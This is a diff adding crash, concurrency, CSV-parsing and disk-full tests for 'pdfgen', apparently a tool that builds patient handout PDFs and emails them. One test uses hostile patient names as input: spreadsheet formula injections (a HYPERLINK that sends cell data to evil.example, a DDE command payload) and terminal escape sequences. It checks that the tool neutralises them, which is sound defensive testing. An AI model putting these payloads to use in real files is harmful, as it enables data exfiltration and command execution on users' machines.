@@ -4,12 +4,21 @@ from __future__ import annotations
 
 import csv
 import email
+import fcntl
+import os
+import re
+import resource
+import signal
+import subprocess
+import sys
+import time
+from collections import Counter
 from email import policy
 from pathlib import Path
 
 import pytest
 from conftest import files_in, pdf_text, run
-from test_mail import Mailbox, free_port, mail_env
+from test_mail import CountingMailbox, Mailbox, free_port, mail_env
 
 from pdfgen.batch import run_batch
 from pdfgen.project import Project
@@ -114,17 +123,6 @@ def test_drafts_one_eml_per_row(demo: Path) -> None:
     assert attachment.get_content() == (out / "back-pain-level-2-li-wei.pdf").read_bytes()
 
 
-class CountingMailbox(Mailbox):
-    def __init__(self) -> None:
-        super().__init__()
-        self.sessions = 0
-
-    async def handle_EHLO(self, server, session, envelope, hostname, responses):
-        self.sessions += 1
-        session.host_name = hostname
-        return responses
-
-
 def test_email_every_patient_over_one_connection_per_worker(demo: Path) -> None:
     from aiosmtpd.controller import Controller
 
@@ -197,3 +195,280 @@ def test_a_list_saved_with_semicolons_is_read(demo: Path) -> None:
     result = run("batch", "semi.csv", cwd=demo)
     assert result.exit_code == 0, result.output
     assert (demo / "out/semi/back-pain-level-2-ana-ruiz.pdf").is_file()
+
+
+# --- crashes, a second run, and hostile lists ----------------------------------------------
+
+def pdfgen(*args: str, cwd: Path, env: dict[str, str] | None = None,
+           fsize: int | None = None) -> subprocess.Popen[str]:
+    """The real `pdfgen` in a process of its own (so it can be killed), bounded in memory."""
+    def limits() -> None:
+        resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))
+        if fsize is not None:
+            resource.setrlimit(resource.RLIMIT_FSIZE, (fsize, fsize))
+
+    full_env = {**os.environ, "XDG_CACHE_HOME": str(cwd / ".cache"), **(env or {})}
+    return subprocess.Popen([sys.executable, "-m", "pdfgen", *args], cwd=cwd, env=full_env,
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+                            preexec_fn=limits)
+
+
+def finish(process: subprocess.Popen[str], timeout: float = 120) -> tuple[int, str, str]:
+    out, err = process.communicate(timeout=timeout)
+    return process.returncode, out, err
+
+
+def wait_for_unlocked(folder: Path, timeout: float = 30) -> None:
+    """Until no process of the killed batch holds its folder any more."""
+    deadline = time.monotonic() + timeout
+    with (folder / ".pdfgen-batch.lock").open("a") as handle:
+        while True:
+            try:
+                fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)
+            except BlockingIOError:
+                assert time.monotonic() < deadline, "the killed batch's workers never ended"
+                time.sleep(0.1)
+                continue
+            fcntl.flock(handle, fcntl.LOCK_UN)
+            return
+
+
+class Killer(Mailbox):
+    """Receives mail; at the Nth message, signals the batch before saying 250 (the moment
+    the mail is on the server but the client does not know it yet)."""
+
+    def __init__(self, after: int, signal_number: int, delay: float = 0) -> None:
+        super().__init__()
+        self.after, self.signal_number, self.delay = after, signal_number, delay
+        self.pid = 0
+
+    async def handle_DATA(self, server, session, envelope):
+        import asyncio
+
+        self.received.append(envelope)
+        if len(self.received) == self.after and self.pid:
+            os.kill(self.pid, self.signal_number)
+            await asyncio.sleep(0.3)  # the signal lands before the answer
+        elif self.delay:
+            await asyncio.sleep(self.delay)
+        return "250 Message accepted"
+
+
+def twelve(demo: Path) -> Path:
+    rows = [{"name": f"Patient {i}", "level": "2", "date": "2026-11-24",
+             "email": f"p{i}@example.com"} for i in range(12)]
+    return patients_csv(demo / "p.csv", rows)
+
+
+def no_login(port: int) -> dict[str, str]:
+    return {k: v for k, v in mail_env(port).items() if k != "PDFGEN_SMTP_USER"}
+
+
+@pytest.mark.parametrize(("jobs", "signal_number"), [
+    ("1", signal.SIGKILL), ("2", signal.SIGKILL), ("1", signal.SIGTERM), ("2", signal.SIGINT),
+])
+def test_a_batch_killed_mid_mail_never_mails_anyone_twice(demo: Path, jobs: str,
+                                                         signal_number: int) -> None:
+    from aiosmtpd.controller import Controller
+
+    box = Killer(after=4, signal_number=signal_number)
+    controller = Controller(box, hostname="127.0.0.1", port=free_port())
+    controller.start()
+    patients = twelve(demo)
+    try:
+        first = pdfgen("batch", "p.csv", "--email", "--jobs", jobs, cwd=demo,
+                       env=no_login(controller.port))
+        box.pid = first.pid
+        code, out, err = finish(first)
+        assert code == (-9 if signal_number == signal.SIGKILL else 130), (out, err)
+        assert "Traceback" not in err
+        if signal_number != signal.SIGKILL:
+            assert out.splitlines()[-1].startswith("Stopped: every file written is whole")
+        wait_for_unlocked(demo / "out/p")
+        box.pid = 0
+        code, out, err = finish(pdfgen("batch", str(patients), "--email", "--jobs", jobs,
+                                       cwd=demo, env=no_login(controller.port)))
+    finally:
+        controller.stop()
+    counts = Counter(e.rcpt_tos[0] for e in box.received)
+    assert counts == {f"p{i}@example.com": 1 for i in range(12)}, (counts, out, err)
+    assert not [f for f in files_in(demo / "out") if f.endswith(".part")]
+    assert len([f for f in files_in(demo / "out/p") if f.endswith(".pdf")]) == 12
+    lines = report(demo / "out/p")
+    if (jobs, signal_number) == ("1", signal.SIGKILL):
+        # Killed between the message and the server's answer: it arrived, but pdfgen could
+        # not know; it says so and does not send it again.
+        assert code == 1, (out, err)
+        assert [line["status"] for line in lines].count("unconfirmed") == 1
+        assert "1 not confirmed" in out.splitlines()[-2]
+        assert "row 5 (Patient 3): the batch stopped while this mail was being sent" in out
+    else:
+        assert code == 0, (out, err)
+        assert {line["status"] for line in lines} <= {"sent", "skipped"}
+
+
+def test_two_batches_of_one_list_at_once_send_each_mail_once(demo: Path) -> None:
+    from aiosmtpd.controller import Controller
+
+    box = Killer(after=0, signal_number=0, delay=0.3)  # a slow server: the runs overlap
+    controller = Controller(box, hostname="127.0.0.1", port=free_port())
+    controller.start()
+    twelve(demo)
+    try:
+        first = pdfgen("batch", "p.csv", "--email", "--jobs", "1", cwd=demo,
+                       env=no_login(controller.port))
+        deadline = time.monotonic() + 60
+        while not box.received:
+            assert time.monotonic() < deadline and first.poll() is None
+            time.sleep(0.05)
+        second = finish(pdfgen("batch", "p.csv", "--email", "--jobs", "1", cwd=demo,
+                               env=no_login(controller.port)))
+        code, out, err = finish(first)
+    finally:
+        controller.stop()
+    assert code == 0, (out, err)
+    assert second == (2, "", f"error: out/p: another pdfgen batch is working on this list "
+                             f"(process {first.pid}); wait for it to finish, then run the "
+                             "same command again\n")
+    assert len(box.received) == 12
+    assert Counter(e.rcpt_tos[0] for e in box.received) == {
+        f"p{i}@example.com": 1 for i in range(12)}
+
+
+def test_a_build_killed_with_kill_9_resumes_and_leaves_no_part_files(demo: Path) -> None:
+    rows = [{"name": f"Patient {i}", "level": "2", "date": "2026-11-24"} for i in range(12)]
+    patients_csv(demo / "p.csv", rows)
+    first = pdfgen("batch", "p.csv", "--jobs", "1", cwd=demo)
+    out = demo / "out/p"
+    deadline = time.monotonic() + 60
+    while len([f for f in files_in(out) if f.endswith(".pdf")]) < 3:
+        assert time.monotonic() < deadline and first.poll() is None
+        time.sleep(0.02)
+    first.send_signal(signal.SIGKILL)
+    assert finish(first)[0] == -9
+    built = {f: (out / f).read_bytes() for f in files_in(out) if f.endswith(".pdf")}
+    # What kill -9 leaves when it lands during a write (a rename never happened).
+    (out / ".back-pain-level-2-patient-11.pdf.x1y2.part").write_bytes(b"%PDF-1.4 half")
+    code, stdout, err = finish(pdfgen("batch", "p.csv", "--jobs", "1", cwd=demo))
+    assert code == 0, (stdout, err)
+    done, skipped = re.match(r"(\d+) built, (\d+) already up to date, 0 failed",
+                             stdout.splitlines()[-1]).groups()
+    assert int(skipped) >= len(built) - 1 and int(done) + int(skipped) == 12
+    assert not [f for f in files_in(demo / "out") if f.endswith(".part")]
+    assert len([f for f in files_in(out) if f.endswith(".pdf")]) == 12
+
+
+def test_the_report_is_text_in_a_spreadsheet_and_names_are_safe_to_print(demo: Path) -> None:
+    names = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
+             "@SUM(1+1)", "-2+3", "Ana \x1b]0;pwned\x07\x1b[31mRed\u202eevil"]
+    rows = [{"name": n, "level": "9"} for n in names]  # every row fails: names get printed
+    result = run("batch", str(patients_csv(demo / "p.csv", rows)), cwd=demo)
+    assert result.exit_code == 1, result.output
+    assert not any(c in result.output for c in "\x1b\x07\u202e")
+    assert "row 6 (Ana \\x1b]0;pwned\\x07\\x1b[31mRed\\u202eevil): level 9" in result.stdout
+    cells = [cell for line in report(demo / "out/p") for cell in line.values()]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert [line["name"] for line in report(demo / "out/p")][:4] == [
+        "'" + name for name in names[:4]]
+    assert not any(c in (demo / "out/p/batch-report.csv").read_text() for c in "\x1b\x07")
+
+
+def test_a_list_is_read_as_rfc_4180_says(demo: Path) -> None:
+    (demo / "p.csv").write_text(
+        'name,level,email\n"Jane\nDoe",2,jane@example.com\n'
+        "Ana\u2028Ruiz,1,ana@example.com\nBo Li,2,bo@example.com\n", encoding="utf-8")
+    result = run("batch", "p.csv", "--draft", cwd=demo)
+    assert result.exit_code == 0, result.output
+    lines = report(demo / "out/p")
+    assert [(line["row"], line["name"], line["file"]) for line in lines] == [
+        ("2", "Jane Doe", "back-pain-level-2-jane-doe.pdf"),
+        ("3", "Ana Ruiz", "back-pain-level-1-ana-ruiz.pdf"),
+        ("4", "Bo Li", "back-pain-level-2-bo-li.pdf")]
+    assert "Prepared for Jane Doe" in pdf_text(demo / "out/p/back-pain-level-2-jane-doe.pdf")
+    draft = email.message_from_bytes(
+        (demo / "out/p/back-pain-level-1-ana-ruiz.eml").read_bytes(), policy=policy.default)
+    assert draft["To"] == "ana@example.com"
+
+
+@pytest.mark.parametrize(("text", "message"), [
+    ("name,level\nAna,2,extra\n",
+     "error: list.csv: row 2: 3 cells but the header names 2 columns (name, level); cell 3 is "
+     "'extra': put a cell that holds a comma in double quotes"),
+    ("name;level\nAna;2\nBo;1;x;y\n",
+     "error: list.csv: row 3: 4 cells but the header names 2 columns (name, level); cell 3 is "
+     "'x': put a cell that holds a semicolon in double quotes"),
+    ('name,level\nAna,2\n"Bo"x,1\n',
+     'error: list.csv: row 3: not valid CSV (near line 3 of the file): a cell with a double '
+     'quote must start and end with one, and a quote inside it is written twice ("")'),
+])
+def test_an_invalid_row_is_refused_naming_it(demo: Path, text: str, message: str) -> None:
+    (demo / "list.csv").write_text(text, encoding="utf-8")
+    result = run("batch", "list.csv", cwd=demo)
+    assert (result.exit_code, result.stderr) == (2, message + "\n")
+    assert files_in(demo / "out") == []
+
+
+def test_lists_of_one_name_in_two_folders_keep_their_own_batch(demo: Path) -> None:
+    for folder, name in (("a", "Ana Ruiz"), ("b", "Bo Li")):
+        (demo / folder).mkdir()
+        patients_csv(demo / folder / "patients.csv", [{"name": name, "level": "2"}])
+    first = run("batch", "a/patients.csv", cwd=demo)
+    second = run("batch", "b/patients.csv", cwd=demo)
+    again = run("batch", "a/patients.csv", cwd=demo)
+    assert (first.exit_code, second.exit_code, again.exit_code) == (0, 0, 0)
+    assert "report: out/patients/batch-report.csv" in first.stdout
+    assert "report: out/patients-2/batch-report.csv" in second.stdout
+    assert [line["name"] for line in report(demo / "out/patients")] == ["Ana Ruiz"]
+    assert [line["name"] for line in report(demo / "out/patients-2")] == ["Bo Li"]
+    assert again.stdout.splitlines()[-1] == ("0 built, 1 already up to date, 0 failed; "
+                                             "report: out/patients/batch-report.csv")
+
+
+def test_failed_rows_are_listed_in_the_order_of_the_list(demo: Path) -> None:
+    rows = [{"name": f"Patient {i}", "level": "2"} for i in range(8)]
+    rows[3]["level"] = rows[4]["level"] = "9"  # row 5 fails after 3 builds, row 6 at once
+    result = run("batch", str(patients_csv(demo / "p.csv", rows)), "--jobs", "2", cwd=demo)
+    assert result.exit_code == 1, result.output
+    failed = [line for line in result.stdout.splitlines() if line.startswith("  row ")]
+    assert [line.split(" (")[0] for line in failed] == ["  row 5", "  row 6"]
+
+
+def test_a_full_disk_stops_the_batch_in_one_line_keeping_what_is_done(demo: Path) -> None:
+    # Level 1 handouts are about 37 KB, level 2 about 40 KB: a limit between them lets the
+    # first rows be written and makes the fourth fail as a full disk would (EFBIG).
+    rows = [{"name": f"Patient {i}", "level": "2" if i == 3 else "1", "date": "2026-11-24"}
+            for i in range(6)]
+    patients_csv(demo / "p.csv", rows)
+    code, out, err = finish(pdfgen("batch", "p.csv", "--jobs", "1", cwd=demo,
+                                   fsize=38500))
+    assert code == 2, (out, err)
+    assert err == ("error: out/p: cannot write back-pain-level-2-patient-3.pdf (File "
+                   "too large); the batch stopped, the 3 handout(s) done are kept and listed "
+                   "in batch-report.csv; make room (or fix the folder) and run the same "
+                   "command again\n")
+    out_dir = demo / "out/p"
+    assert sorted(f for f in files_in(out_dir) if f.endswith(".pdf")) == [
+        f"back-pain-level-1-patient-{i}.pdf" for i in range(3)]
+    assert not [f for f in files_in(demo / "out") if f.endswith(".part")]
+    assert [line["status"] for line in report(out_dir)] == [
+        "built", "built", "built", "failed", "not done", "not done"]
+    code, out, err = finish(pdfgen("batch", "p.csv", "--jobs", "1", cwd=demo))
+    assert code == 0, (out, err)
+    assert out.splitlines()[-1].startswith("3 built, 3 already up to date, 0 failed (")
+
+
+def test_a_file_where_the_batch_folder_goes_is_one_line(demo: Path) -> None:
+    patients_csv(demo / "p.csv", [{"name": "Ana", "level": "2"}])
+    (demo / "out").mkdir()
+    (demo / "out/p").write_text("not a folder")
+    code, out, err = finish(pdfgen("batch", "p.csv", cwd=demo))
+    assert (code, out, err) == (2, "", "error: out/p: is a file, expected a folder for the "
+                                       "batch's handouts\n")
+
+
+def test_a_re_run_with_nothing_to_do_gives_no_rate(demo: Path) -> None:
+    patients = patients_csv(demo / "p.csv", [{"name": "Ana", "level": "2"}])
+    assert run("batch", str(patients), cwd=demo).exit_code == 0
+    again = run("batch", str(patients), cwd=demo)
+    assert again.stdout.splitlines()[-1] == ("0 built, 1 already up to date, 0 failed; "
+                                             "report: out/p/batch-report.csv")
